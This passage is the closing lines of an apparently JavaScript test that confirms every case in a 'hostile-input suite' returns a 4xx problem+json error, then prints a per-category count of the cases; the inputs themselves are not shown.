    expect(passed).toBe(table.length);
    const counts = categories.map((category) => `  ${String(table.filter((c) => c.category === category).length).padStart(4)}  ${category}`);
    process.stdout.write(`hostile-input suite: ${table.length} cases, all 4xx problem+json\n${counts.join('\n')}\n`);
  });
});
